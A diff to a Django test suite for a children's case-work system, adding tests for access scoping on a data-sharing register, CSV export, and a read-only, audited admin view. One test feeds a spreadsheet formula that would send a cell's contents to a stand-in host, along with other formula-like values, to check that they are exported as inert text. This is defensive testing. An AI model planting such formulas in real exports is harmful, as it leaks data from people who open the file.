@@ -10,10 +10,13 @@ from typing import Any
 import pytest
 from django.test import Client
 
+from locus.access.models import Scope
 from locus.audit.models import AccessAction, AccessEvent
 from locus.sharing.models import Share, ShareKind
+from locus.sharing.services import To, record_share
+from locus.sharing.vocab import SAFEGUARDING
 from tests.casework import helpers as casework
-from tests.factories import World, client_for
+from tests.factories import World, client_for, make_worker
 from tests.mapping import helpers as mapping
 
 pytestmark = pytest.mark.django_db
@@ -120,3 +123,70 @@ def test_the_register_reads_the_same_number_of_queries_however_many_rows(world: 
     for _ in range(5):
         casework.refer(world, actor=world.social_worker, about="child", children=[world.csc_child])
     assert _queries(client) == few
+
+
+def test_a_partner_sees_a_share_made_to_them_and_a_colleague_who_got_nothing_sees_none(
+    world: World,
+) -> None:
+    """A meeting shares a child with the partner's worker it invited: they read its row (the
+    child outside their scope: a count, no name); a worker of the same partner who was not
+    invited reads nothing, on the page or in the download."""
+    colleague = make_worker(
+        world.system, team=world.partner_team, scope=Scope.AGENCY, username="partner_colleague"
+    )
+    meeting = mapping.propose(world, agreed=False, invitees=[world.partner_worker])
+    mapping.agree(meeting, world.yjs_worker, world.yjs_child)
+    share = Share.objects.get(kind=ShareKind.MEETING)
+    assert share.by == world.yjs_worker and share.people == [world.yjs_child.pk]
+    html, shown = _read(client_for(world.partner_worker))
+    assert shown == {str(share.pk)}
+    assert world.yjs_child.full_name not in html and "1 person not in your scope" in html
+    _, nothing = _read(client_for(colleague))
+    assert nothing == set()
+    rows = list(csv.reader(io.StringIO(_csv(client_for(colleague)))))
+    assert rows[1:] == []
+
+
+def _csv(client: Client) -> str:
+    response = client.get(REGISTER + "register.csv")
+    assert response.status_code == 200
+    return response.content.decode()
+
+
+def test_a_purpose_a_spreadsheet_would_run_is_written_as_text(world: World) -> None:
+    """A purpose typed as a formula opens in Excel or LibreOffice as text, not a formula."""
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'
+    record_share(
+        actor=world.social_worker,
+        kind=ShareKind.REFERRAL,
+        basis=SAFEGUARDING,
+        purpose=formula,
+        what=["@SUM(1+1)"],
+        record_ref="-1+1",
+        source=world.csc_child,
+        recipients=[To(name="+Someone, somewhere")],
+        people=[world.csc_child.pk],
+    )
+    header, row = list(csv.reader(io.StringIO(_csv(client_for(world.auditor)))))
+    cell = dict(zip(header, row, strict=True))
+    assert cell["Purpose"] == "'" + formula
+    assert cell["What"] == "'@SUM(1+1)" and cell["Record"] == "'-1+1"
+    assert cell["With whom"] == "'+Someone, somewhere"
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in row)
+
+
+def test_the_register_in_the_admin_is_read_only_and_its_reads_are_audited(world: World) -> None:
+    """The admin bypasses the register page: it still logs what it showed, and cannot write."""
+    shares = _shares(world)
+    admin = client_for(world.admin)
+    assert admin.get("/admin/sharing/share/").status_code == 200
+    listed = AccessEvent.objects.filter(record_type="sharing.share").latest("id")
+    assert (listed.actor, listed.action) == (world.admin, AccessAction.SEARCH)
+    assert set(listed.detail["shown"]) == {str(s.pk) for s in shares.values()}
+    one = shares["own"]
+    assert admin.get(f"/admin/sharing/share/{one.pk}/change/").status_code == 200
+    shown = AccessEvent.objects.filter(record_type="sharing.share").latest("id")
+    assert (shown.action, shown.record_id) == (AccessAction.VIEW, str(one.pk))
+    assert admin.get("/admin/sharing/share/add/").status_code == 404
+    assert admin.post(f"/admin/sharing/share/{one.pk}/delete/", {"post": "yes"}).status_code == 404
+    assert Share.objects.filter(pk=one.pk).exists()
